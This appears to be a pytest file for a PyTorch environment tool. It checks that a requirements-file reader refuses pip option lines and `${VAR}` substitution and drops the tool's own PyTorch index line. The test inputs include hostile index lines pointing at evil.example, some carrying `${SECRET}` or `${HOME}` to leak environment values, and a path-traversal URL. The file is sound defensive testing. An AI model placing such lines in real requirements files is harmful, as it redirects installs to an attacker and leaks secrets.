"""Requirements files: a requirements file cannot pass options to pip.  An `--index-url`,
`--extra-index-url` or `--trusted-host` line would override --mirror / --index-url unseen by
--dry-run, and pip replaces `${VAR}` in a line with an environment variable (a secret sent to a
stranger's index).  The file is parsed once: option lines and `$` are refused, naming the line; the
one option line `torch-envcheck pin` writes (the PyTorch index of its pins) is dropped and shown in
the plan; pip gets the checked lines through a private copy (test_rebuild_runner.py)."""

from __future__ import annotations

import sys

import pytest

from doctor_support import run_cli

from torch_envcheck.advice import plan as planmod
from torch_envcheck.advice import requirements_file

PIN = "--extra-index-url https://download.pytorch.org/whl/cu130\ntorch==2.14.1+cu130\ntorchvision==0.29.1+cu130\n"


@pytest.mark.parametrize("line, why", [
    ("--index-url http://evil.example/simple", r"pip option \(--index-url\).*package sources go on the command line"),
    ("--extra-index-url http://evil.example/simple", r"pip option \(--extra-index-url\)"),
    ("-i http://evil.example/simple", r"pip option \(-i\)"),
    ("--trusted-host evil.example", r"pip option \(--trusted-host\)"),
    ("--find-links http://evil.example/", r"pip option \(--find-links\)"),
    ("-r other.txt", r"pip option \(-r\).*write plain requirements"),
    ("-c constraints.txt", r"pip option \(-c\)"),
    ("--extra-index-url http://host/${SECRET}/", r"holds `\$`: pip would replace \$\{VAR\}"),
    ("numpy==${NUMPY_VERSION}", r"holds `\$`"),
    ("numpy \\", r"continues on the next line"),
    ("--extra-index-url=https://download.pytorch.org/whl/cu130/../../evil", r"pip option"),
])
def test_option_lines_and_variables_are_refused(tmp_path, line, why):
    req = tmp_path / "pins.txt"
    req.write_text(f"torch==2.14.1+cu130\n{line}\n")
    with pytest.raises(requirements_file.RequirementsError, match=why):
        requirements_file.read(str(req))
    with pytest.raises(planmod.PlanError, match="pins.txt, line 2"):
        planmod.read_requirements(str(req))


def test_the_pin_commands_own_index_line_is_dropped_and_shown(tmp_path):
    req = tmp_path / "pins.txt"
    req.write_text(PIN)
    parsed = requirements_file.read(str(req))
    assert parsed.lines == ("torch==2.14.1+cu130", "torchvision==0.29.1+cu130")
    assert len(parsed.notes) == 1 and "https://download.pytorch.org/whl/cu130" in parsed.notes[0]


def test_dry_run_shows_what_pip_gets_and_only_the_mirror(tmp_path):
    req = tmp_path / "pins.txt"
    req.write_text(PIN)
    proc = run_cli(sys.executable, ["rebuild", str(tmp_path / "env"), "--from-requirements", str(req), "--dry-run",
                                    "--mirror", "https://mirror.example/whl", "--timeout", "3"], timeout=120)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    assert "is left out: the plan installs torch from that index itself (or from --mirror)" in out
    assert "its 2 requirement lines, checked; pip gets exactly these, through a private copy" in out
    pip_lines = [ln for ln in out.splitlines() if " -m pip install -r " in ln]
    assert pip_lines and all("--index-url https://mirror.example/whl/cu130" in ln for ln in pip_lines)
    assert "download.pytorch.org" not in "\n".join(pip_lines)


def test_a_project_requirements_file_with_an_index_line_is_refused_by_advise(tmp_path):
    req = tmp_path / "requirements.txt"
    req.write_text("numpy\n--extra-index-url http://evil.example/${HOME}/\n")
    snap = str(tmp_path.parent / "snap.json")
    from paths import SNAP_DIR
    import shutil
    shutil.copy(f"{SNAP_DIR}/h100_cu130_healthy.json", snap)
    proc = run_cli(sys.executable, ["advise", "--from-json", snap, "--script", "sh", "-r", str(req)], timeout=120)
    assert proc.returncode == 2 and "line 2" in proc.stderr and "pip would replace ${VAR}" in proc.stderr
